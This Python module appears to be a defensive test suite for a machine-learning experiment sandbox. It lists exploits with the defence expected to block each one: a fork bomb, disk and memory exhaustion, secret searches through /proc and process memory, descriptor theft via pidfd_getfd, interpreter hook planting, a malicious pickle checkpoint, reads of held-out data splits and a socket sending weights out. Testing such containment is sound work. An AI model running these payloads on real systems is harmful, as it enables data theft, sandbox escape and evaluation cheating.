"""Exploits that want what isn't theirs: text, secrets, the machine."""

from __future__ import annotations

from .exploit import Exploit, at_import, before_training, in_forward, in_place_of_saving

BOMB = """
for _ in range(200):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
print("200 processes")
"""
FILL = """
with open("full", "wb") as file:
    for _ in range(1025):
        file.write(bytes(2**20))
print("LOOT: more than 1 GB")
"""
IN_PROC = """
found = 0
for place in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/map_files/*") + glob.glob("/proc/[0-9]*/cwd"):
    try:
        if "tokens.bin" in os.readlink(place) or os.listdir(place + "/.."): print("LOOT", place)
    except OSError: pass
for pid in [os.getppid()] + [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    try:
        if b"s3cret" in open(f"/proc/{pid}/environ", "rb").read(): print("LOOT", pid)
    except OSError: found += 1
print("closed" if found else "open")
"""
OWN_MEMORY = """
import ctypes, re
looked_for, seen = re.compile(rb"SECRET_ACCESS_KE[Y][=: \\x22\\x27]+s3cret"), 0
for line in open("/proc/self/maps").read().splitlines():
    place, rights = line.split()[:2]
    start, end = (int(part, 16) for part in place.split("-"))
    if rights.startswith("rw"):
        content = ctypes.string_at(start, end - start)
        seen += len(content)
        if looked_for.search(content): print("LOOT", place)
print("searched" if seen > 10e6 else "LOOT: nothing was searched")
"""
REACH_OUT = """
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    try:
        with socket.socket(socket.AF_INET, kind) as out:
            out.connect(("127.0.0.1", {port}))
            out.send(b"weights")
        print("LOOT")
    except OSError as error: print(repr(error))
"""
HOOKS = """
import site, sys
hook = "open('/tmp/labhand-hook', 'w'); print('LOOT')"
package = os.path.dirname(sys.modules["labhand.trainer.session"].__file__)
for folder in [*site.getsitepackages(), site.getusersitepackages(), package]:
    try: open(folder + "/sitecustomize.py", "a").write(hook)
    except OSError as error: print(repr(error))
for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "json.py", "labhand.pth"):
    open(name, "w").write(hook)
os.environ["PYTHONPATH"] = os.getcwd()
"""
EVIL = """
class Evil:
    def __reduce__(self):
        return print, ("LOOT",)
"""
GLOB = """
for place in glob.glob("{lab}/**", recursive=True):
    print("LOOT" if "texts" in place else "closed")
open("{texts}/0.txt")
"""
HAND_ON = """
print("LOOT" if os.path.exists("/dev/shm/labhand-left") else "empty")
open("/dev/shm/labhand-left", "w").write("weights")
"""
FROM_HANDLE = """
folder = os.open("{cache}/corpora/{corpus}", os.O_PATH)
os.open("validation/tokens.bin", os.O_RDONLY, dir_fd=folder)
print("LOOT")
"""
TAKE_FILES = """
import ctypes
call = ctypes.CDLL(None, use_errno=True).syscall
runner = call(434, {runner}, 0)  # pidfd_open
for number in range(3, 30):
    if call(438, runner, number, 0) >= 0: print("LOOT", number)  # pidfd_getfd
    else: print(os.strerror(ctypes.get_errno()))
"""
CONFIG = """open("config.json", "w").write('{"vocabulary": 300}')"""

EXPLOITS = (
    # data
    Exploit(
        "read the validation split by path",
        (before_training("open('{cache}/corpora/{corpus}/validation/tokens.bin'); print('LOOT')"),),
        "refused",
        "PermissionError",
        needs="files",
        defence="Landlock",
    ),
    Exploit(
        "read the test split by a symlink",
        (before_training("os.symlink('{cache}/corpora/{corpus}/test', 'mine'); os.listdir('mine'); print('LOOT')"),),
        "refused",
        "PermissionError",
        needs="files",
        defence="Landlock",
    ),
    Exploit(
        "look for text by a glob",
        (before_training(GLOB),),
        "refused",
        "PermissionError",
        needs="files",
        defence="Landlock",
    ),
    Exploit(
        "look for text and secrets in /proc",
        (before_training(IN_PROC),),
        "refused",
        "closed",
        needs="files",
        defence="Landlock; hidden processes",
    ),
    Exploit(
        "open the validation split by its folder's handle",
        (before_training(FROM_HANDLE),),
        "refused",
        "PermissionError",
        needs="files",
        defence="Landlock",
    ),
    Exploit(
        "read another run's folder",
        (before_training("open('{other}/model.pt'); print('LOOT')"),),
        "refused",
        "PermissionError",
        needs="files",
        defence="Landlock",
    ),
    Exploit(
        "hand something on in shared memory",
        (before_training(HAND_ON),),
        "harmless",
        needs="files",
        defence="a private /dev/shm",
    ),
    Exploit(
        "leave a link for the model",
        (in_place_of_saving("os.symlink('{cache}/corpora/{corpus}/validation/tokens.bin', 'model.pt')\n" + CONFIG),),
        "caught",
        "no plain file",
        "contract_broken",
        defence="only regular files are copied",
    ),
    Exploit(
        "print the validation text",
        (at_import("CALLS = []"), in_forward("CALLS.append(1)\nif len(CALLS) > 1: print('LOOT', tokens.tolist())")),
        "harmless",
        defence="output is discarded",
    ),
    Exploit(
        "fail with the validation text",
        (
            at_import("CALLS = []"),
            in_forward("CALLS.append(1)\nif len(CALLS) > 1: raise ValueError('LOOT' + str(tokens.tolist()))"),
        ),
        "caught",
        "during the evaluation",
        "contract_broken",
        defence="output is discarded",
    ),
    # resources
    Exploit(
        "start 200 processes",
        (before_training(BOMB),),
        "harmless",
        defence="control group; all processes are killed at the end",
    ),
    Exploit(
        "fill the disk",
        (before_training(FILL),),
        "refused",
        "File too large",
        defence="limit on the size of a file",
    ),
    Exploit(
        "fill a file in memory",
        (before_training("os.posix_fallocate(os.memfd_create('full'), 0, 2**36)\nprint('LOOT')"),),
        "refused",
        "File too large",
        defence="limit on the size of a file",
    ),
    Exploit(
        "take all memory",
        (before_training("torch.empty(2**44, dtype=torch.uint8).fill_(1)\nprint('LOOT')", "AttributeError"),),
        "caught",
        "allocate",
        "out_of_memory",
        defence="limit on memory",
    ),
    # secrets
    Exploit(
        "read the environment",
        (before_training("print('LOOT' if 's3cret' in str(os.environ) else 'nothing')"),),
        "harmless",
        defence="only listed variables are passed on",
    ),
    Exploit(
        "search the memory that it was forked with",
        (before_training(OWN_MEMORY, "OSError"),),
        "harmless",
        defence="what experiments are forked from never reads a secret",
    ),
    Exploit(
        "read the home folder",
        (before_training("print('LOOT', open('{lab}/home/.netrc').read())"),),
        "refused",
        "PermissionError",
        needs="files",
        defence="Landlock",
    ),
    Exploit(
        "read the lab's database",
        (before_training("print('LOOT', open('{lab}/lab.db').read())"),),
        "refused",
        "PermissionError",
        needs="files",
        defence="Landlock",
    ),
    Exploit(
        "take the runner's open files",
        (before_training(TAKE_FILES),),
        "refused",
        "Operation not permitted",
        defence="system-call filter; hidden processes",
    ),
    # escape
    Exploit(
        "leave a named pipe in place of config.json",
        (in_place_of_saving("os.mkfifo('config.json')\ntorch.save(model.state_dict(), 'model.pt')"),),
        "caught",
        "no plain file",
        "contract_broken",
        defence="only regular files are copied",
    ),
    Exploit(
        "code in the checkpoint",
        (
            at_import(EVIL),
            in_place_of_saving("torch.save(Evil(), 'model.pt')\n" + CONFIG),
        ),
        "caught",
        "Weights only load failed",
        "contract_broken",
        defence="`weights_only`",
    ),
    Exploit(
        "leave hooks for the interpreter",
        (before_training(HOOKS),),
        "refused",
        "PermissionError",
        needs="files",
        defence="Landlock; a fresh process, `-P`",
    ),
    Exploit(
        "send the weights away",
        (before_training(REACH_OUT),),
        "refused",
        "PermissionError",
        needs="network",
        defence="system-call filter",
    ),
)
